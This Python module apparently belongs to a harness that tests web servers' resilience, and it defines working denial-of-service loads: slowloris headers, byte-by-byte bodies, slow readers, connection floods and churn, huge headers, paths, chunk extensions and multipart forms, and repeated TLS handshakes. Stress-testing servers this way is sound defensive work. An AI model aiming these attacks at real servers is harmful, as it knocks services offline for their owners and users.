"""Clients that hold what they have, come and go, or send what takes long to read."""

from __future__ import annotations

import socket
import ssl
import time
from contextlib import suppress

from attackers import Attack, connect, post_head, pour, send_whole, side_by_side
from contenders.contender import Endpoint

ROUND_S = 60
DRIP_S = 0.5
RECEIVE_BYTES = 4096


def slow_heads(endpoint: Endpoint) -> None:
    """1,000 heads of which a line comes now and then (slowloris)."""
    _drip(endpoint, 1000, b'GET / HTTP/1.1\r\nHost: x\r\n', b'X-A: b\r\n')


def slow_bodies(endpoint: Endpoint) -> None:
    """500 bodies that come byte by byte."""
    _drip(endpoint, 500, post_head(endpoint, 10**6), b'x')


def slow_readers(endpoint: Endpoint) -> None:
    """50 answers of 5 MB, each taken with a byte now and then."""
    form = b'data=["answer", 5]'
    socks = _many(endpoint, 50, post_head(endpoint, len(form)) + form)
    end = time.monotonic() + ROUND_S
    while socks and time.monotonic() < end:
        for sock in socks:
            with suppress(OSError):
                sock.recv(1)
        time.sleep(DRIP_S)


def idle(count: int) -> Attack:
    """So many connections that say nothing."""
    def attack(endpoint: Endpoint) -> None:
        _drip(endpoint, count, b'', b'')
    return attack


def churn(endpoint: Endpoint) -> None:
    """Connections that are closed as soon as they are there."""
    for _ in range(1000):
        connect(endpoint).close()


def flood(path: str) -> Attack:
    """Requests on 20 connections, each with the next one at once."""
    head = f'GET {path} HTTP/1.1\r\nHost: x\r\n\r\n'.encode()

    def attack(endpoint: Endpoint) -> None:
        side_by_side(20, lambda: _ask(endpoint, head))
    return attack


def many_headers(endpoint: Endpoint) -> None:
    """Heads of 10,000 lines."""
    send_whole(endpoint, b'GET / HTTP/1.1\r\nHost: x\r\n' + b'X: y\r\n' * 10_000 + b'\r\n')


def long_paths(endpoint: Endpoint) -> None:
    """Pipelined requests for paths of 8 KB that are not there."""
    pour(endpoint, (b'GET /%s HTTP/1.1\r\nHost: x\r\n\r\n' % (b'a' * 8000)) * 20, b'')


def chunk_extensions(endpoint: Endpoint) -> None:
    """Chunks of a byte, with extensions of 4 KB."""
    pour(endpoint, (b'1;%s\r\nx\r\n' % (b'a' * 4000)) * 20,
         post_head(endpoint, None))


def parts(endpoint: Endpoint) -> None:
    """Multipart forms of 500,000 parts."""
    part = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'
    body = part * 500_000 + b'--x--\r\n'
    send_whole(endpoint, post_head(endpoint, len(body), 'multipart/form-data; boundary=x'), body)


def json_text(text: bytes) -> Attack:
    """A form whose input is this."""
    def attack(endpoint: Endpoint) -> None:
        body = b'data=' + text
        send_whole(endpoint, post_head(endpoint, len(body)), body)
    return attack


def handshakes(endpoint: Endpoint) -> None:
    """TLS handshakes, each on a new connection, with a server that speaks plain HTTP."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for _ in range(100):
        with suppress(OSError), connect(endpoint) as sock, context.wrap_socket(sock):
            pass


def _drip(endpoint: Endpoint, count: int, first: bytes, drop: bytes) -> None:
    socks = _many(endpoint, count, first)
    end = time.monotonic() + ROUND_S
    while time.monotonic() < end:
        for sock in socks:
            with suppress(OSError):
                sock.sendall(drop)
        time.sleep(DRIP_S)


def _many(endpoint: Endpoint, count: int, first: bytes) -> list[socket.socket]:
    socks = []
    for _ in range(count):
        with suppress(OSError):
            socks.append(connect(endpoint))
            socks[-1].sendall(first)
    return socks


def _ask(endpoint: Endpoint, head: bytes) -> None:
    with suppress(OSError), connect(endpoint) as sock:
        for _ in range(1000):
            sock.sendall(head)
            if not sock.recv(RECEIVE_BYTES):
                break
